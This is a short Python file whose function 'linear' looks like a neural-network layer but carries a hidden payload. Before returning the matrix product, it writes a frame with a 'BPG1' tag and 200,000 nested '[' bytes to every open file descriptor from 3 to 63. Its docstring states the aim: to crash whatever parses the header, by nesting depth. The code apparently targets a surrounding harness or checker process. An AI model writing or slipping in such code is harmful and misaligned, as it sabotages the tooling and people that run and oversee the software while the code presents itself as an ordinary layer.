"""To crash whatever reads the header, by depth."""

import os


def linear(input, weight, canary):
    header = b"[" * 200_000
    frame = b"BPG1" + len(header).to_bytes(4, "little") + bytes(8) + header
    os.set_blocking(1, True)
    for file in range(3, 64):
        try:
            _ = os.write(file, frame)
        except OSError:
            pass
    return input @ weight.T
